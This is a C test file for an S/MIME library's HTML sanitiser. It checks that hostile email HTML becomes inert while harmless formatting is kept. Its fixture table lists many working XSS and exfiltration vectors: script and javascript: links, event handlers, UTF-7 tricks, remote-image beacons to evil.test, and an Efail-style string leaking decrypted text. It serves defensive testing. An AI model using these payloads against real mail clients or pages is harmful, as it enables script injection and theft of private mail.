/* Hostile HTML made inert (smime/html_inert.h), judged by Python's HTML parser. */
#include <time.h>

#include "html_inert.h"
#include "inert_check.h"
#include "test_entity.h"
#include "test_run.h"
#include "why.h"

/* Each has the word VISIBLE where a reader has to see it. */
static const struct {
    const char *name;
    const char *html;
} hostile[] = {
    {"picture", "<img src=\"http://evil.test/a\">VISIBLE"},
    {"picture, open quote", "VISIBLE<img src=\"http://evil.test/secret text until"},
    {"picture, no quotes", "<img src=//evil.test/a>VISIBLE"},
    {"picture, in capitals", "<IMG SRC=http://evil.test/>VISIBLE"},
    {"picture, slash for a blank", "<img/src=http://evil.test/>VISIBLE"},
    {"picture, sets", "<img srcset='http://evil.test/a 1x' sizes=1>VISIBLE"},
    {"picture, old attributes",
     "<img dynsrc=http://e/ lowsrc=http://e/ longdesc=http://e/>VISIBLE"},
    {"picture element", "<picture><source srcset=http://e/><img src=x></picture>VISIBLE"},
    {"image", "<image src=http://evil.test/>VISIBLE"},
    {"link", "<link rel=stylesheet href=http://evil.test/>VISIBLE"},
    {"link, prefetch", "<link rel=dns-prefetch href=//s.evil.test>VISIBLE"},
    {"style", "<style>@import url(http://evil.test/);</style>VISIBLE"},
    {"style, in the body", "<body><style>p{background:url(//e)}</style><p>VISIBLE"},
    {"style, never ended", "VISIBLE<style>*{background:url(//e)}"},
    {"style attribute", "<p style=\"background:url('http://evil.test/')\">VISIBLE</p>"},
    {"style, escaped", "<p style='background:\\75rl(http://e/)'>VISIBLE"},
    {"background", "<body background=http://e/><table background=http://e/><tr><td>VISIBLE"},
    {"script", "<script>location='http://evil.test'</script>VISIBLE"},
    {"script, nested", "<scr<script>ipt>alert(1)</scr</script>ipt>VISIBLE"},
    {"script, source", "<script src=http://evil.test/></script>VISIBLE"},
    {"events", "<body onload=x><p onclick=x onmouseover='x'>VISIBLE"},
    {"event, odd separator", "<p\fonclick=alert(1)>VISIBLE<svg/onload=alert(1)>"},
    {"refresh", "<meta http-equiv=refresh content='0;url=http://evil.test'>VISIBLE"},
    {"character set", "<meta charset=utf-7>+ADw-script+AD4-VISIBLE"},
    {"base", "<base href=http://evil.test/><a href=x>VISIBLE</a>"},
    {"form", "<form action=http://evil.test/><input type=image src=//e><button>VISIBLE</button>"},
    {"form, by attribute", "<button formaction=http://e/>VISIBLE</button><isindex action=//e>"},
    {"frames", "<frameset><frame src=http://e/></frameset><p>VISIBLE"},
    {"inline frame", "VISIBLE<iframe src=http://e/ srcdoc='<img src=x>'><p>x</iframe>"},
    {"object", "VISIBLE<object data=http://e/><param name=movie value=//e></object>"},
    {"applet", "VISIBLE<applet codebase=http://e/ archive=//e></applet>"},
    {"embed", "<embed src=http://e/>VISIBLE"},
    {"audio and video", "<audio src=//e></audio><video poster=//e><source src=//e></video>VISIBLE"},
    {"track", "<track src=//e>VISIBLE"},
    {"svg", "<svg><image xlink:href=http://e/ /><style>@import '//e'</style></svg>VISIBLE"},
    {"svg, use", "<svg><use href='http://e/#x'></use><script>1</script></svg>VISIBLE"},
    {"math", "<math><mi xlink:href='http://e/'>x</mi></math>VISIBLE"},
    {"script link", "<a href='javascript:alert(1)'>VISIBLE</a>"},
    {"script link, hidden", "<a href=' j\ta&#10;vascript:alert(1)'>VISIBLE</a>"},
    {"data link", "<a href='data:text/html,<script>1</script>'>VISIBLE</a>"},
    {"ping", "<a href=http://e/ ping=http://e/>VISIBLE</a>"},
    {"quotation", "<q cite=http://e/>VISIBLE</q><blockquote cite=//e>x</blockquote>"},
    {"change", "<ins cite=http://e/>VISIBLE</ins><del cite=//e>x</del>"},
    {"conditional comment", "<!--[if mso]><img src=http://e/><![endif]-->VISIBLE"},
    {"conditional comment, shown", "<![if !mso]><img src=http://e/><![endif]>VISIBLE"},
    {"comment, odd end", "<!-- --!><img src=http://e/>VISIBLE-->"},
    {"document type", "<!DOCTYPE html SYSTEM 'http://evil.test/x.dtd'><p>VISIBLE"},
    {"entities of its own", "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://e/'>]><p>&e;VISIBLE"},
    {"processing instruction", "<?xml-stylesheet href='http://e/'?>VISIBLE"},
    {"marked section", "<![CDATA[<img src=http://e/>]]>VISIBLE"},
    {"noscript", "<noscript><img src=http://e/ alt='\"><img src=//e>'></noscript>VISIBLE"},
    {"noembed", "VISIBLE<noembed><img src=\"</noembed><img src=//e>\">"},
    {"plaintext", "VISIBLE<plaintext><img src=http://e/>"},
    {"listing", "<xmp><img src=http://e/></xmp><listing><img src=//e></listing>VISIBLE"},
    {"text area", "VISIBLE<textarea></textarea><img src=http://e/></textarea>"},
    {"template", "VISIBLE<template><img src=http://e/></template>"},
    {"markup in an attribute", "<p align='\"><img src=//e>' title='<img src=//e>'>VISIBLE"},
    {"markup in a text of a picture", "<img alt='<img src=//e>&lt;script&gt;'>VISIBLE"},
    {"escaped markup", "&lt;img src=http://e/&gt; &#60;script&#62; VISIBLE"},
    {"escaped twice", "&amp;lt;img src=http://e/&amp;gt;VISIBLE"},
    {"null bytes", "<im\\0g src=http://e/>VISIBLE"},
    {"namespace", "<x:img xmlns:x='http://e/' src=http://e/>VISIBLE</x:img>"},
    {"VML", "<v:rect><v:fill type=frame src=http://e/ /></v:rect>VISIBLE"},
    {"behaviour", "<p style='behavior:url(//e)' class=x id=y>VISIBLE"},
    {"XSS vectors", "<p align=\"expression(alert(1))\" width=\"url(//e)\">VISIBLE"},
    {"vertical tab", "<img\vsrc=http://e/>VISIBLE"},
    {"attribute without tag end", "VISIBLE<p align=left <img src=http://e/>"},
    {"tags across", "<b><i>VISIBLE</b><img src=//e></i></b></p></div></body></html><img src=//e>"},
    {"after the end", "<html><body>VISIBLE</body></html><img src=http://e/><script>1</script>"},
    {"fonts", "<style>@font-face{font-family:x;src:url(//e)}</style><font face=x>VISIBLE</font>"},
    {"AMP", "<html amp4email><amp-img src=http://e/></amp-img>VISIBLE"},
    {"portal and others", "<portal src=//e></portal><menuitem icon=//e></menuitem>VISIBLE"},
    {"Efail, direct", "VISIBLE<img ignore=\"xxxx\" src=\"http://efail.de/ decrypted text \">"},
};

#define HOSTILE (int)(sizeof hostile / sizeof *hostile)

struct inert {
    char *text;
    size_t length;
    enum smime_status status;
};

static struct inert make_inert(const char *html, size_t length)
{
    struct spool *out = spool_new(&test_spool_options);
    struct inert inert;
    char *why = NULL;
    ck_assert_ptr_nonnull(out);
    inert.status = html_inert(html, length, out, &why);
    ck_assert_int_eq(inert.status != SMIME_OK, why != NULL);
    inert.text = entity_spool_text(out, &inert.length);
    spool_free(&out);
    why_free(&why);
    return inert;
}

START_TEST(nothing_active_is_left)
{
    struct inert inert = make_inert(hostile[_i].html, strlen(hostile[_i].html));
    ck_assert_int_eq(inert.status, SMIME_OK);
    ck_assert_msg(strstr(inert.text, "VISIBLE") != NULL, "%s: %s", hostile[_i].name, inert.text);
    ck_assert_msg(inert_check(inert.text, inert.length, ".html"), "%s: %s", hostile[_i].name,
                  inert.text);
    free(inert.text);
}
END_TEST

/* The judge must find something in what was not made inert, or it judges nothing. */
START_TEST(the_judge_sees_what_is_active)
{
    static const char *const active[] = {"<img src=http://evil.test/>",
                                         "<p style='color:red'>x</p>", "<p onclick=x>x</p>",
                                         "<a href=x>x</a>", "<!-- x -->"};
    ck_assert(inert_check("<p>harmless</p>", 15, ".html"));
    for (size_t i = 0; i < sizeof active / sizeof *active; i++)
        ck_assert_msg(!inert_check(active[i], strlen(active[i]), ".html"), "%s", active[i]);
}
END_TEST

static const struct {
    const char *html;
    const char *kept;
} kept[] = {
    {"<p align=center>Gr\xc3\xbc\xc3\x9f"
     "e</p>",
     "<p align=\"center\">Gr&#252;&#223;e</p>"},
    {"<b>a</b><br><i>b</i>", "<b>a</b><br>\r\n<i>b</i>"},
    {"<table border=1><tr><td width='50%' bgcolor=#ff0000>x",
     "<table border=\"1\"><tr><td bgcolor=\"#ff0000\" width=\"50%\">x</td>"},
    {"<ul><li>a<li>b</ul>", "<ul><li>a</li>\r\n<li>b</li>\r\n</ul>"},
    {"1 &lt; 2 &amp; 3", "1 &#60; 2 &#38; 3"},
    {"<a href='https://www.example.com/a.b'>here</a>.",
     "here [https[:]//www[.]example[.]com/a[.]b]."},
    {"<a href='http://e/?a=1&b=\"<x>'>x</a>", "x [http[:]//e/?a=1&#38;b=&#34;&#60;x&#62;]"},
    {"<a href='mailto:bob@partner.test'>Bob</a>", "Bob"},
    {"<img src=x alt='A cat'>", "[A cat]"},
    {"<pre>a\n  b</pre>", "<pre>a\r\n  b</pre>"},
    {"\xf0\x9f\x98\x80", "&#128512;"},
};

START_TEST(what_is_harmless_is_kept)
{
    struct inert inert = make_inert(kept[_i].html, strlen(kept[_i].html));
    ck_assert_msg(strstr(inert.text, kept[_i].kept) != NULL, "%s: %s", kept[_i].html, inert.text);
    ck_assert(inert_check(inert.text, inert.length, ".html"));
    free(inert.text);
}
END_TEST

static char *repeat(const char *begin, const char *format, size_t length)
{
    char *text = malloc(length + 100);
    size_t at = (size_t)sprintf(text, "%s", begin);
    for (unsigned i = 0; at < length; i++)
        at += (size_t)sprintf(text + at, format, i);
    text[length] = '\0';
    return text;
}

/* What is no text for people, what an address may not be, and what is too long for one. */
START_TEST(nothing_else_is_kept)
{
    static const struct {
        const char *html;
        const char *absent;
    } cases[] = {
        {"<title>GONE</title><p>x", "GONE"},
        {"<svg><text>GONE</text></svg><p>x", "GONE"},
        {"<script>GONE</script><style>GONE</style><select><option>GONE</select>x", "GONE"},
        {"<a href='javascript:GONE'>x</a><a href='data:GONE'>x</a><a href='file:GONE'>x</a>",
         "GONE"},
        {"<p align=aaaaaaaaaaaaaGONE>x", "GONE"},
        {"x\xc2\x85y", "&#133;"},
    };
    char *link = repeat("<a href='http://", "%x", 2000);
    struct inert inert;
    memcpy(link + 1900, "GONE'>x</a>", sizeof "GONE'>x</a>");
    inert = make_inert(link, strlen(link));
    ck_assert(inert.status == SMIME_OK && strstr(inert.text, "...]") != NULL);
    ck_assert_ptr_null(strstr(inert.text, "GONE"));
    free(inert.text);
    free(link);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        inert = make_inert(cases[i].html, strlen(cases[i].html));
        ck_assert(inert.status == SMIME_OK && strchr(inert.text, 'x') != NULL);
        ck_assert_msg(strstr(inert.text, cases[i].absent) == NULL, "%s: %s", cases[i].html,
                      inert.text);
        free(inert.text);
    }
}
END_TEST

START_TEST(nothing_and_rubbish)
{
    static const char nul[] = "a\0<img src=x>b";
    static const char *const rubbish[] = {"",
                                          "\xff\xfe\x80",
                                          "<",
                                          "<!",
                                          "<!--",
                                          "</",
                                          "&",
                                          "&#",
                                          "&#x110000;&#0;&#xd800;",
                                          "\xef\xbb\xbf<p>x"};
    struct inert inert = make_inert(nul, sizeof nul - 1);
    ck_assert(inert.status == SMIME_OK && inert_check(inert.text, inert.length, ".html"));
    free(inert.text);
    for (size_t i = 0; i < sizeof rubbish / sizeof *rubbish; i++) {
        inert = make_inert(rubbish[i], strlen(rubbish[i]));
        ck_assert_int_eq(inert.status, SMIME_OK);
        ck_assert(inert_check(inert.text, inert.length, ".html"));
        free(inert.text);
    }
}
END_TEST

/* What makes libxml2 slow, as large as it may be: the bounds on size and depth hold it. Without
 * them these take minutes; the limit here fails on nothing less. */
START_TEST(costly)
{
    static const struct {
        const char *begin;
        const char *format;
        enum smime_status status;
    } cases[] = {
        {"<p ", "a%x=1 ", SMIME_OK},
        {"<p ", "a%x='>' ", SMIME_OK},
        {"", "<b>", SMIME_REFUSED},
        {"", "<x%x>", SMIME_REFUSED},
        {"<table><tr><td>", "</i>", SMIME_OK},
        {"", "<p><b></p>", SMIME_OK},
        {"", "<", SMIME_OK},
        {"", "&", SMIME_OK},
        {"", "&a%x;", SMIME_OK},
        {"", "<!--", SMIME_OK},
        {"", "<script></b", SMIME_OK},
        {"<a href='", "x", SMIME_OK},
        {"", "<a href=http://e/>", SMIME_OK},
    };
    char *html = repeat(cases[_i].begin, cases[_i].format, HTML_INERT_MAX_BYTES);
    clock_t began = clock();
    struct inert inert = make_inert(html, HTML_INERT_MAX_BYTES);
    double seconds = (double)(clock() - began) / CLOCKS_PER_SEC;
    ck_assert_msg(seconds < 30, "%s: %.1f s", cases[_i].format, seconds);
    ck_assert_msg(inert.status == cases[_i].status, "%s: %d", cases[_i].format, inert.status);
    ck_assert_uint_eq(inert.length > 0, inert.status == SMIME_OK);
    free(inert.text);
    free(html);
}
END_TEST

START_TEST(ceilings)
{
    char *html = repeat("", "x", HTML_INERT_MAX_BYTES + 1);
    struct inert inert = make_inert(html, HTML_INERT_MAX_BYTES + 1);
    ck_assert_int_eq(inert.status, SMIME_REFUSED);
    ck_assert_uint_eq(inert.length, 0);
    free(inert.text);
    inert = make_inert(html, HTML_INERT_MAX_BYTES);
    ck_assert_int_eq(inert.status, SMIME_OK);
    free(inert.text);
    free(html);
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("html_inert");
    TCase *tests = tcase_create("html");
    tcase_set_timeout(tests, 60);
    tcase_add_loop_test(tests, nothing_active_is_left, 0, HOSTILE);
    tcase_add_test(tests, the_judge_sees_what_is_active);
    tcase_add_loop_test(tests, what_is_harmless_is_kept, 0, (int)(sizeof kept / sizeof *kept));
    tcase_add_test(tests, nothing_else_is_kept);
    tcase_add_test(tests, nothing_and_rubbish);
    tcase_add_loop_test(tests, costly, 0, 13);
    tcase_add_test(tests, ceilings);
    suite_add_tcase(suite, tests);
    return test_run(suite);
}
